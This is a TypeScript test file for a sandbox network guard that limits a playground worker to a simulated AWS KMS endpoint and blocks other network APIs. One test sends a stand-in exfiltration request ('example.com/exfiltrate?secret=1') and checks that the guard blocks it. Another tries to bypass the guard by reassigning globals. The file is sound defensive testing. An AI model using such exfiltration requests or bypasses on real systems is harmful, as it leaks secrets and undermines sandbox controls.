import { describe, expect, it } from 'vitest';
import { BlockedRequestError, installNetworkGuard, type NetworkPolicy } from '../../../src/playground/runner';

const kmsOnly: NetworkPolicy = {
  allows: (url) => url.hostname === 'kms.eu-west-1.amazonaws.com',
  respond: async (request) =>
    request.headers.get('x-amz-target') === 'TrentService.ListKeys' ? Response.json({ Keys: [] }) : undefined,
  reachable: 'AWS KMS endpoints',
};

/** A stand-in for a worker's global scope, with `fetch` on its prototype like the real one. */
function fakeScope() {
  const prototype = { fetch: () => Promise.reject(new Error('real network used')) };
  const scope = Object.create(prototype) as Record<string, unknown> & { navigator: Record<string, unknown> };
  scope.navigator = { sendBeacon: () => true };
  scope.XMLHttpRequest = class {};
  scope.WebSocket = class {};
  return { scope, prototype };
}

describe('installNetworkGuard', () => {
  it('answers allowed requests in process', async () => {
    const { scope } = fakeScope();
    installNetworkGuard(scope, kmsOnly);
    const fetch = scope.fetch as typeof globalThis.fetch;
    const response = await fetch('https://kms.eu-west-1.amazonaws.com/', {
      method: 'POST',
      headers: { 'x-amz-target': 'TrentService.ListKeys' },
    });
    expect(await response.json()).toEqual({ Keys: [] });
  });

  it('rejects any other host like a network error that says why', async () => {
    const { scope, prototype } = fakeScope();
    installNetworkGuard(scope, kmsOnly);
    for (const fetch of [scope.fetch, prototype.fetch] as Array<typeof globalThis.fetch>) {
      const failure = fetch('https://example.com/exfiltrate?secret=1').catch((error: unknown) => error);
      await expect(failure).resolves.toBeInstanceOf(TypeError);
      await expect(failure).resolves.toMatchObject({
        message: expect.stringMatching(
          /Network request blocked: GET https:\/\/example\.com\/exfiltrate was not sent.*only AWS KMS endpoints/,
        ),
      });
    }
  });

  it('fails allowed hosts the responder has no answer for', async () => {
    const { scope } = fakeScope();
    installNetworkGuard(scope, kmsOnly);
    const fetch = scope.fetch as typeof globalThis.fetch;
    await expect(fetch('https://kms.eu-west-1.amazonaws.com/other')).rejects.toThrow(/simulated KMS has no answer for GET/);
  });

  it('blocks XHR, WebSocket, EventSource, importScripts, workers and beacons', () => {
    const { scope } = fakeScope();
    installNetworkGuard(scope, kmsOnly);
    const construct = (name: string, url: string) => () => new (scope[name] as new (url: string) => unknown)(url);
    expect(construct('WebSocket', 'wss://example.com/socket')).toThrow(BlockedRequestError);
    expect(construct('WebSocket', 'wss://example.com/socket')).toThrow(/WebSocket to wss:\/\/example\.com\/socket was not sent/);
    expect(construct('EventSource', 'https://example.com/events')).toThrow(/EventSource/);
    expect(construct('Worker', 'https://example.com/w.js')).toThrow(/Worker/);
    const xhr = new (scope.XMLHttpRequest as new () => { open(m: string, u: string): void; send(): void })();
    xhr.open('get', 'https://example.com/data');
    expect(() => xhr.send()).toThrow(/XMLHttpRequest GET https:\/\/example\.com\/data was not sent/);
    expect(() => (scope.importScripts as (url: string) => void)('https://cdn.example.com/lib.js')).toThrow(/importScripts/);
    expect(() => (scope.navigator.sendBeacon as (url: string) => void)('https://example.com/b')).toThrow(/sendBeacon/);
  });

  it('cannot be undone by assigning the globals again', () => {
    const { scope } = fakeScope();
    installNetworkGuard(scope, kmsOnly);
    const guarded = scope.fetch;
    expect(() => {
      'use strict';
      scope.fetch = () => 'bypass';
    }).toThrow(TypeError);
    expect(scope.fetch).toBe(guarded);
  });
});
